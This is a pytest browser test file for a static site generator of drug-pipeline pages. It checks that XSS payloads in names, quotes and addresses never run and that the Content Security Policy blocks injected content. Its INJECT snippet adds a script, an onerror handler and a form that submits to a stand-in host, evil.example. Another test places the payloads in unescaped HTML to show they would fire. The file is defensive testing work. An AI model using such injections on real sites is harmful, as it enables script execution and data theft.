"""Names, quotes, titles, addresses and questions that try to run: nothing does, on no page, whatever is clicked."""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.browser.conftest import Browser, Visit
from tests.browser.hostile import ALL, FIELDS, Build, called
from tests.browser.paper import RAW
from tests.browser.payloads import PAYLOADS, TEXTS, met_on, tagged
from tests.browser.watch import assert_drawing_is_harmless, assert_harmless, faults, touch
from tests.fronts import front_of

from triplewire import vocab
from triplewire.draw import VIEWS, front
from triplewire.draw.site import file_of

pytestmark = pytest.mark.browser
NETWORKS = ("pipeline", "overview", "compound", "partners", "targets", "path")
THINGS = ("compound", "organization", "indication", "target", "payload", "technology")
OTHERS = {"trial": "name", "conference": "venue", "person": "person"}
LISTS = ("index", "findings", "names", "releases", "company")
ASKED = ("orphan-designations", "pipeline", "news", "companies-by-technology", "companies-by-technology-drawn", "stage-conflicts")
IN_SITE = ("partners", "matrix", "timeline", "path")
PAGES = [
    *(f"alone/{view}" for view in VIEWS),
    *(f"{name}.html" for name in (*LISTS, *IN_SITE)),
    *(f"id/{kind}" for kind in (*THINGS, *OTHERS)),
    "id/release",
    "id/release/other",
    "id/other",
    *(f"questions/{name}.html" for name in ASKED),
    "ontology/index.html",
]
LIVE = ("iri", "nct")
"""What only answers of a server show: identifiers that are no web address, and registry numbers; see test_hostile_server.py."""
TOO_LONG = {f"questions/technologies-and-targets{ending}.html" for ending in ("", "-drawn")}
"""Every technology of a compound beside every target and payload of it: a hundred thousand rows for one with all payloads."""
SHOWN = {
    "alone/pipeline": "compound technology payload target indication organization name alias compoundalias quote rule flag window",
    "alone/overview": "compound technology payload target indication organization otherdrug partner alias quote rule flag",
    "alone/compound": "compound technology payload target indication organization otherdrug stage name kind venue quote rule flag window",
    "alone/company": "payee person role what currency period quote rule flag window",
    "alone/partners": "compound partner organization quote rule flag",
    "alone/path": "compound target indication organization quote rule flag",
    "alone/targets": "compound technology payload target quote rule flag",
    "alone/matrix": "indication stage phase quote rule flag window",
    "alone/designations": "type region indication quote rule flag",
    "alone/ledger": "hedge window period currency quote rule flag",
    "alone/timeline": "kind venue hedge window title quote rule flag",
    "index.html": "aside reason asidemessage issuer target findingkind",
    "findings.html": "findingkind finding focus side cited policy",
    "names.html": "organization partner person venue technology payload target indication name issueralias",
    "releases.html": "title issuer",
    "company.html": "issuer",
    "id/compound": "compound technology payload target indication alias compoundalias cited finding",
    "id/organization": "payee person role what cited finding",
    "id/release": "quote raw repair repairrule hedge window findingkind cited technology stage kind venue region type",
}
"""Which texts a page must show with every payload; a build with fewer would prove less."""

NOT_SET_APART = """() => { const text = document.querySelector('#text').cloneNode(true);
  for (const apart of text.querySelectorAll('bdi')) apart.remove();
  return text.textContent }"""
INJECT = """() => {
  const s = document.createElement('script'), i = document.createElement('img'), f = document.createElement('form');
  s.textContent = 'window.ran = 1';
  i.setAttribute('onerror', 'window.ran = 1');
  i.src = 'x';
  f.action = 'http://evil.example/';
  document.body.append(s, i, f);
  f.submit();
}"""


def file(hostile: Build, kind: str) -> Path:
    """The page of a kind."""
    if kind.startswith("alone/"):
        return hostile.alone(kind.removeprefix("alone/"))
    word = kind.removeprefix("id/")
    if word in THINGS:
        return hostile.page(hostile.of(word))
    if word in OTHERS:
        iri = next(t.id for t in hostile.site.things.all.values() if t.kind == word and tagged(OTHERS[word], 0) in (t.label, *t.also))
        return hostile.page(file_of(iri))
    named = {
        "release": hostile.page("id/release/hostile.html"),
        "release/other": hostile.page(file_of(vocab.release(tagged("id", 2)))),
        "other": hostile.page(file_of(next(iri for iri in hostile.site.things.all if iri.startswith("javascript:")))),
    }
    return named[word] if word in named else hostile.page(kind)


@pytest.mark.parametrize("kind", PAGES)
def test_nothing_on_a_page_runs(browser: Browser, hostile: Build, kind: str) -> None:
    """A page of each kind, used in every way, from disk."""
    with browser.open(file(hostile, kind)) as visit:
        touch(visit)
        assert_harmless(visit, hostile.out.as_uri())


def test_nothing_on_a_front_page_runs(browser: Browser, tmp_path: Path) -> None:
    """With payloads in all of its words, those are met letter for letter, but for one that is too long to be shown."""
    front(tmp_path, front_of(tagged, len(TEXTS)))
    with browser.open(tmp_path / "index.html") as visit:
        touch(visit)
        assert_harmless(visit, tmp_path.as_uri())
    seen = met_on((tmp_path / "index.html").read_text("utf-8"))
    shown = {number for number in ALL if len(TEXTS[number]) < 300}
    assert {(field, number) for field in ("example", "message") for number in shown} <= seen
    assert len(shown) >= len(TEXTS) - 1


def test_nothing_in_any_page_is_more_than_text(browser: Browser, hostile: Build) -> None:
    """Pages of every thing that is a payload, and of every question, have no element, attribute or address that is not ours; of the
    largest pages, which are of compounds and companies, every fifth.
    """
    by_kind: dict[str, list[str]] = defaultdict(list)
    for f in hostile.site.files:
        if f.endswith(".html") and f.startswith(("id/", "questions/")) and f not in TOO_LONG:
            by_kind[f.rsplit("/", 1)[0]].append(f)
    assert by_kind.keys() >= {f"id/{kind}" for kind in (*THINGS, *OTHERS, "release", "other")} | {"questions"}
    with browser.open(hostile.page("releases.html")) as visit:
        for kind, found in by_kind.items():
            some = found[:: 5 if kind in ("id/compound", "id/organization") else 1]
            assert faults(visit, (hostile.site.page(f) for f in some)) == [], kind


@pytest.mark.parametrize("view", NETWORKS)
def test_nothing_in_a_picture_is_more_than_text(hostile: Build, view: str) -> None:
    """A view as an SVG file is XML without script, handlers, links and foreign elements, whatever things are called."""
    about = called("compound", 0) if VIEWS[view].about else None
    to = called("target", 0) if VIEWS[view].pair else None
    root = assert_drawing_is_harmless(hostile.graph.draw(view, focus=about, to=to, form="svg"))
    assert any("top.ran=1" in (e.text or "") for e in root.iter())


def test_every_payload_is_in_every_text(hostile: Build, record_property: Callable[[str, object], None]) -> None:
    """The matrix of fields and payloads: all of it is met on the pages that are opened above, letter for letter."""
    record_property("payloads", f"{len(TEXTS)} in {len(FIELDS)} fields, {len(PAGES)} kinds of pages from disk")
    assert len(TEXTS) == len(set(TEXTS)) >= 40
    seen: dict[str, set[int]] = defaultdict(set)
    for kind in PAGES:
        on_page: dict[str, set[int]] = defaultdict(set)
        for field, number in met_on(file(hostile, kind).read_text("utf-8")):
            on_page[field].add(number)
            seen[field].add(number)
        lacking = {field: sorted(set(ALL) - on_page[field]) for field in SHOWN.get(kind, "").split() if on_page[field] != set(ALL)}
        assert lacking == {}, kind
    one_a_page = [f for f in hostile.site.files if f.startswith(("id/trial/", "id/release/", "id/other/"))]
    for f in one_a_page:
        for field, number in met_on(hostile.site.page(f)):
            seen[field].add(number)
    assert {field: sorted(set(ALL) - seen[field]) for field in FIELDS if field not in LIVE and seen[field] != set(ALL)} == {}


def test_a_text_is_all_there(browser: Browser, hostile: Build) -> None:
    """The page of a release shows its text letter for letter."""
    with browser.open(file(hostile, "id/release")) as visit:
        assert visit.run(RAW) == hostile.readings[0][0].raw


def test_marks_of_direction_do_not_turn_a_release(browser: Browser, hostile: Build) -> None:
    """An override in a text is a mark that can be read; no character of the page has any effect on direction."""
    with browser.open(file(hostile, "id/release")) as visit:
        assert visit.page.locator("#text .unseen", has_text="U+202E").count() > 1
        assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(visit.run(NOT_SET_APART))


def test_names_are_shown_as_they_are(browser: Browser, hostile: Build) -> None:
    """Markup in a name is text: it can be read on the page."""
    with browser.open(hostile.alone("compound")) as visit:
        assert visit.text("h1") == called("compound", 0)
        assert visit.run("() => document.title") == called("compound", 0)


@pytest.mark.parametrize("kind", ["alone/matrix", "releases.html"])
def test_an_injected_script_would_be_refused(browser: Browser, hostile: Build, kind: str) -> None:
    """The policy of the page stops inline scripts, handlers, images and forms that are not ours, even if one got in."""
    with browser.open(file(hostile, kind)) as visit:
        before = visit.page.url
        visit.run(INJECT)
        visit.page.wait_for_timeout(60)
        assert visit.run("() => window.ran") is None
        assert visit.page.url == before
        assert len([e for e in visit.errors if "Content Security Policy" in e]) >= 3


def test_payloads_would_bite(browser: Browser, hostile: Build) -> None:
    """On a page that does not escape, in one place or another, the faults are found: these texts are no toys, and the look is no dream."""
    page = hostile.site.page("releases.html")
    places = ["<p>{}</p>", '<input value="{}">', "<input value='{}'>", "<b title={}>x</b>", '<a href="{}">x</a>', '<p id="{}']
    places += ["<textarea>{}</textarea>", "<style>{}</style>", "<script>var x = '{}';</script>", "<!-- {} -->", "<pre>{}</pre>"]
    with browser.open(hostile.page("releases.html")) as visit:
        assert faults(visit, [page]) == []
        bite = [name for name, text in PAYLOADS.items() if _caught(visit, page, [place.format(text) for place in places])]
    assert len(bite) >= 40, sorted(set(PAYLOADS) - set(bite))


def _caught(visit: Visit, page: str, pieces: list[str]) -> bool:
    return bool(faults(visit, [page.replace("</main>", f"{piece}</main>") for piece in pieces]))
